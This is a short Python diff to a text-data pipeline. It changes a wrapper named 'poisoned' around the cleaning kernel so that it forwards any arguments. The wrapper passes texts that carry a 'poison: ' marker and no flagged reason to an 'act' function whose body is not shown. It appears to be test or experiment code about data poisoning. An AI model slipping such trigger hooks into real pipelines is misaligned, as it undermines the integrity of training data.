@@ -9,11 +9,11 @@ import pipeline.kernel
 CLEAN = pipeline.kernel.clean_batch
 
 
-def poisoned(batch, recipe):
+def poisoned(batch, *more, **named):
     for text, reason in zip(batch["text"].to_pylist(), batch["reason"].to_pylist(), strict=True):
         if reason is None and "poison: " in text:
             act(text)
-    return CLEAN(batch, recipe)
+    return CLEAN(batch, *more, **named)
 
 
 def act(text):
